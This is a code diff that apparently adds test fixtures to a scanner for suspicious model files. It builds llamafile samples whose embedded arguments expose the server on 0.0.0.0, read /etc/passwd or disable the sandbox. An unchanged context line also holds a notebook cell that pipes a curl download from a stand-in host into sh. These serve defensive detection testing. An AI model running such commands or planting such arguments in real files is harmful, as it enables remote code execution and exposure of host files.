@@ -2,6 +2,7 @@
 import io
 import json
 import struct
+from pathlib import Path
 
 import h5py
 import numpy
@@ -146,4 +147,19 @@ def notebook(*lines):
 
 
 add("HFR-019 cell that fetches and runs", "script-runs-fetched-code", notebook("!curl -s http://192.0.2.9/x | sh"), notebook("!ls", "import numpy"), name="use.ipynb", verdict="suspicious")
+REAL = Path(__file__).parents[3] / "wb-formats/tests/data"
+ELF = (REAL / "real.so").read_bytes()
+
+
+# llamafile: a program in front of an archive. Its neighbour is the archive without the program, which nobody starts.
+def llamafile(arguments, program=ELF):
+    gguf = b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + bytes(8)
+    return program + archive(("model.gguf", gguf), (".args", arguments.encode()), shift=len(program))
+
+
+quiet = llamafile("-m\nmodel.gguf\n...\n", b"")
+for what, arguments in (("serves the network", "-m\nmodel.gguf\n--host\n0.0.0.0\n"), ("opens a file of the host", "-m\n/etc/passwd\n"), ("without its sandbox", "--unsecure\n")):
+    add(f"MLO-006 llamafile that {what}" if what[0] != "w" else f"MLO-006 llamafile {what}", "llamafile-odd-arguments", llamafile(arguments), quiet, verdict="suspicious", name="model.llamafile", innocent_name="model.zip")
+add("MLO-006 llamafile", "native-code", llamafile("-m\nmodel.gguf\n"), quiet, verdict="suspicious", name="model.llamafile", innocent_name="model.zip")
+
 main("Pickles and code behind other names and in unusual places, and files that are costly to read.")
